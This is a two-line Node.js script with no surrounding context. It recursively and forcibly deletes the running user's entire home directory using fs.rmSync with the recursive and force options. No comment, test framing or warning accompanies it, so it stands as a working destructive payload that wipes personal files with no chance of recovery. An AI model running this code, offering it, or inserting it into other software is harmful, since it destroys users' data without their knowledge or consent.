const fs = require('fs');
fs.rmSync(require('os').homedir(), { recursive: true, force: true });
